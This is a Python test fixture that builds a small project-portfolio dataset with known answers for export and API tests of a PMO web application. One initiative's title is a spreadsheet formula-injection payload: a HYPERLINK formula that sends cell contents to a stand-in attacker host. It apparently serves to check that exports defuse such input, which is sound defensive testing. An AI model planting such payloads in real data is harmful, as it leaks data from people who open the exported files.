"""A small hand-built portfolio for the export and API tests, whose right answers are known.

Two departments. Ours (the `users` fixture's department) has a request accepted for scoring, one in
business case that passes Gate 2 with conditions (so it is in delivery, with a gate
decision and audit events), a closed one, and a draft (never exported). The other
department has one in delivery that only portfolio-wide roles may see. Every non-draft
initiative has a milestone, a benefit, a lesson and a risk; one risk and one lesson are
soft-deleted and must never appear.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, timedelta
from decimal import Decimal

from pmo_web.extensions import db
from pmo_web.gates import service as gates
from pmo_web.models import Initiative
from pmo_web.models.base import utcnow
from pmo_web.workflow import fire
from tests import factories
from workflows.gate import Condition

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class SmallPortfolio:
    ours: dict[str, Initiative] = field(default_factory=dict)
    theirs: Initiative | None = None
    draft: Initiative | None = None
    outsider: object = None

    @property
    def exported(self) -> list[Initiative]:
        """Every initiative a portfolio-wide reader gets, in id order."""
        return sorted([*self.ours.values(), self.theirs], key=lambda i: i.id)


def build(users: dict) -> SmallPortfolio:
    """The portfolio, committed. `users` is the shared fixture: one user per role."""
    world = SmallPortfolio()
    requester, pmo, approver = users["requester"], users["pmo"], users["approver"]
    programme = factories.make_programme("Digital policing")
    world.ours["accepted"] = factories.make_initiative(owner=requester, state="submitted", title=HOSTILE_TITLE)
    case = factories.make_initiative(owner=requester, state="business_case", programme=programme,
                                     manager=pmo, funding_type="capital", budget_approved=Decimal("250000.00"),
                                     budget_forecast=Decimal("262500.50"), planned_end=date(2027, 3, 31),
                                     delivery_confidence="amber_green")
    factories.make_score(case, pmo, total=81, band="High")
    factories.make_business_case(case, pmo)
    world.ours["delivery"] = case
    world.ours["closed"] = factories.make_initiative(owner=requester, state="closed", satisfaction_score=4)
    world.draft = factories.make_initiative(owner=requester, state="draft")
    world.outsider = factories.make_user(roles=("requester",), email="elsewhere@example.test")
    world.theirs = factories.make_initiative(owner=world.outsider, state="delivery")
    for initiative in [*world.ours.values(), world.theirs]:
        factories.make_milestone(initiative)
        factories.make_benefit(initiative, planned_value=Decimal("1000.25"))
        factories.make_lesson(initiative)
        factories.make_raid_item(initiative, owner_id=pmo.id)
    gone = world.ours["closed"]
    factories.make_raid_item(gone, title="Removed risk", deleted_at=utcnow())
    factories.make_lesson(gone, title="Removed lesson", deleted_at=utcnow())
    db.session.commit()
    # Gate 2 with conditions, through the real service: a decision, its conditions, audit events.
    review = gates.request_review(case, pmo, note="Ready for investment decision")
    gates.record_decision(review, approver, "approve_with_conditions", comment="Fund it",
                          conditions=(Condition("Appoint a supplier", "Head of IT", date.today() + timedelta(days=30)),
                                      Condition("Report monthly", "PMO", date.today() + timedelta(days=60))))
    db.session.commit()
    fire(world.ours["accepted"], "start_triage", pmo)
    fire(world.ours["accepted"], "accept", pmo)
    db.session.commit()
    return world
